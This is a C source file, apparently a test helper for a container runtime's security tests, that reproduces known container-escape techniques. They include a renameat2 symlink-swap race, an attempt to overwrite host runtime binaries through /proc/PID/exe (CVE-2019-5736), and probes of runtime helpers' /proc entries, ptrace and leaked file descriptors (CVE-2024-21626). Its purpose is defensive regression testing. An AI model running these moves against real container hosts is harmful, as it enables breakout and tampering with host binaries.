/* attack: the moves of known runtime escapes, for tests/security.  Static
 * (the test rootfs is busybox-static: no libc inside).
 *
 *   attack race A B SECONDS
 *       On the host: swap A and B (a directory and a symlink, same parent)
 *       with renameat2(RENAME_EXCHANGE) in a loop for SECONDS, or until
 *       .stop-race exists beside A.  Prints "swaps N".  (CVE-2021-30465,
 *       CVE-2019-19921, CVE-2025-31133, CVE-2025-52565)
 *
 *   attack exe SECONDS
 *       In a container: hold /proc/PID/exe of every process whose program
 *       is not /bin/busybox nor this one, and keep trying to reopen it for
 *       writing (through /proc/self/fd/N) until SECONDS pass; a success
 *       writes "pwned" over the start of the file.  Prints "held N" and
 *       "overwrote PATH" for each success.  (CVE-2019-5736)
 *
 *   attack peek SECONDS COMM MARKER
 *       In a container: for every process whose comm is COMM (a runtime
 *       helper not yet exec'd), try /proc/PID/{mem,exe,cwd,root,fd/N} and
 *       PTRACE_SEIZE.  An open that succeeds while the process is still
 *       COMM is a breach; a directory reached that way is walked up with
 *       ".." and a breach too if MARKER (a host path, relative to the
 *       host's /) is found from there.  Prints "seen N" and one "breach
 *       WHAT" line each.  (CVE-2016-9962, CVE-2024-21626)
 *
 *   attack fds MARKER
 *       In a container: the cwd and every fd this process has (and every
 *       fd of pid 1 it may read), each dir walked up with ".." looking for
 *       MARKER; prints "cwd PATH", "fd N TARGET" for each and "breach ..."
 *       when MARKER is reachable.  (CVE-2024-21626)
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double) ts.tv_sec + (double) ts.tv_nsec / 1e9;
}

static int race(const char *a, const char *b, double secs)
{
    char stop[PATH_MAX];
    snprintf(stop, sizeof stop, "%s", a);
    char *slash = strrchr(stop, '/');
    snprintf(slash ? slash + 1 : stop, sizeof stop - (size_t) (slash ? slash + 1 - stop : 0),
             ".stop-race");
    unsigned long n = 0;
    double end = now() + secs;
    while (now() < end) {
        for (int i = 0; i < 256; i++)
            if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0)
                n++;
        if (access(stop, F_OK) == 0)
            break;
    }
    /* leave them as found: an even number of swaps */
    if (n % 2)
        syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
    printf("swaps %lu\n", n);
    return 0;
}

static int same_file(int fd, const char *path)
{
    struct stat a, b;
    return fstat(fd, &a) == 0 && stat(path, &b) == 0 &&
           a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

#define MAXHELD 256

static int exe_attack(double secs)
{
    int held[MAXHELD];
    char held_path[MAXHELD][64];
    int n = 0, wrote = 0;
    static unsigned long seen[65536]; /* the exe inode last looked at, per pid */
    pid_t self = getpid();
    double end = now() + secs;
    while (now() < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d)) != NULL) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self || pid >= 65536 || n >= MAXHELD)
                continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_PATH | O_CLOEXEC);
            struct stat st;
            if (fd < 0)
                continue;
            /* a pid is looked at again once it exec'd something else */
            if (fstat(fd, &st) < 0 || seen[pid] == (unsigned long) st.st_ino) {
                close(fd);
                continue;
            }
            seen[pid] = (unsigned long) st.st_ino;
            if (same_file(fd, "/bin/busybox") || same_file(fd, "/proc/self/exe")) {
                close(fd);
                continue;
            }
            held[n] = fd;
            snprintf(held_path[n], sizeof held_path[n], "%s", p);
            n++;
        }
        if (d)
            closedir(d);
        for (int i = 0; i < n; i++) {
            if (held[i] < 0)
                continue;
            char p[64];
            snprintf(p, sizeof p, "/proc/self/fd/%d", held[i]);
            int w = open(p, O_WRONLY | O_CLOEXEC);
            if (w < 0)
                continue;
            if (write(w, "pwned", 5) == 5) {
                printf("overwrote %s\n", held_path[i]);
                wrote++;
            }
            close(w);
            close(held[i]);
            held[i] = -1;
        }
        usleep(200);
    }
    printf("held %d\n", n);
    fflush(stdout);
    return wrote ? 1 : 0;
}

/* Walk up from dir (consumed) and look for marker. */
static int reaches_marker(int dir, const char *marker)
{
    if (dir < 0)
        return 0;
    for (int i = 0; i < 64; i++) {
        int up = openat(dir, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (up < 0)
            break;
        close(dir);
        dir = up;
    }
    int found = faccessat(dir, marker, F_OK, 0) == 0;
    close(dir);
    return found;
}

static int comm_is(int pid, const char *comm)
{
    char p[64], buf[64] = { 0 };
    snprintf(p, sizeof p, "/proc/%d/comm", pid);
    int fd = open(p, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    ssize_t r = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (r > 0 && buf[r - 1] == '\n')
        buf[r - 1] = '\0';
    return strcmp(buf, comm) == 0;
}

static int breaches;

static void breach(int pid, const char *what)
{
    printf("breach %s of pid %d\n", what, pid);
    fflush(stdout);
    breaches++;
}

static void peek_one(int pid, const char *comm, const char *marker)
{
    static const char *const files[] = { "mem", "exe", "cwd", "root" };
    char p[96];
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        snprintf(p, sizeof p, "/proc/%d/%s", pid, files[i]);
        int fd = open(p, (i == 0 ? O_RDWR : O_RDONLY) | O_CLOEXEC);
        if (fd < 0 && i > 0)
            fd = open(p, O_PATH | O_CLOEXEC);
        if (fd < 0)
            continue;
        if (comm_is(pid, comm))
            breach(pid, files[i]);
        else if (i >= 2 && reaches_marker(dup(fd), marker))
            breach(pid, files[i]);
        close(fd);
    }
    snprintf(p, sizeof p, "/proc/%d/fd", pid);
    DIR *d = opendir(p);
    struct dirent *e;
    while (d && (e = readdir(d)) != NULL) {
        if (e->d_name[0] == '.')
            continue;
        char f[320];
        snprintf(f, sizeof f, "/proc/%d/fd/%.32s", pid, e->d_name);
        int fd = open(f, O_PATH | O_CLOEXEC);
        if (fd < 0)
            continue;
        struct stat st;
        int on_host = fstat(fd, &st) == 0 && S_ISDIR(st.st_mode) &&
                      reaches_marker(dup(fd), marker);
        if (on_host || comm_is(pid, comm)) {
            snprintf(f, sizeof f, "fd %.32s%s", e->d_name, on_host ? " (host dir)" : "");
            breach(pid, f);
        }
        close(fd);
    }
    if (d)
        closedir(d);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        if (comm_is(pid, comm))
            breach(pid, "ptrace");
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

static int peek(double secs, const char *comm, const char *marker)
{
    pid_t self = getpid();
    int seen = 0;
    double end = now() + secs;
    while (now() < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d)) != NULL) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == self || !comm_is(pid, comm))
                continue;
            seen++;
            peek_one(pid, comm, marker);
        }
        if (d)
            closedir(d);
    }
    printf("seen %d\n", seen);
    return breaches ? 1 : 0;
}

static void fds_of(const char *dir, const char *marker)
{
    DIR *d = opendir(dir);
    struct dirent *e;
    while (d && (e = readdir(d)) != NULL) {
        if (e->d_name[0] == '.')
            continue;
        char f[300], target[PATH_MAX] = "?";
        snprintf(f, sizeof f, "%s/%s", dir, e->d_name);
        ssize_t n = readlink(f, target, sizeof target - 1);
        if (n > 0)
            target[n] = '\0';
        printf("fd %s %s\n", f, target);
        int fd = open(f, O_PATH | O_CLOEXEC);
        struct stat st;
        if (fd >= 0 && fstat(fd, &st) == 0 && S_ISDIR(st.st_mode) &&
            reaches_marker(dup(fd), marker)) {
            printf("breach %s\n", f);
            breaches++;
        }
        if (fd >= 0)
            close(fd);
    }
    if (d)
        closedir(d);
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc == 5 && strcmp(argv[1], "race") == 0)
        return race(argv[2], argv[3], atof(argv[4]));
    if (argc == 3 && strcmp(argv[1], "exe") == 0)
        return exe_attack(atof(argv[2]));
    if (argc == 5 && strcmp(argv[1], "peek") == 0)
        return peek(atof(argv[2]), argv[3], argv[4]);
    if (argc == 3 && strcmp(argv[1], "fds") == 0) {
        char cwd[PATH_MAX];
        printf("cwd %s\n", getcwd(cwd, sizeof cwd) ? cwd : "?");
        if (reaches_marker(open(".", O_PATH | O_DIRECTORY | O_CLOEXEC), argv[2])) {
            printf("breach cwd\n");
            breaches++;
        }
        fds_of("/proc/self/fd", argv[2]);
        fds_of("/proc/1/fd", argv[2]);
        return breaches ? 1 : 0;
    }
    fprintf(stderr, "usage: attack race A B SECS | exe SECS | peek SECS COMM MARKER | "
                    "fds MARKER\n");
    return 2;
}
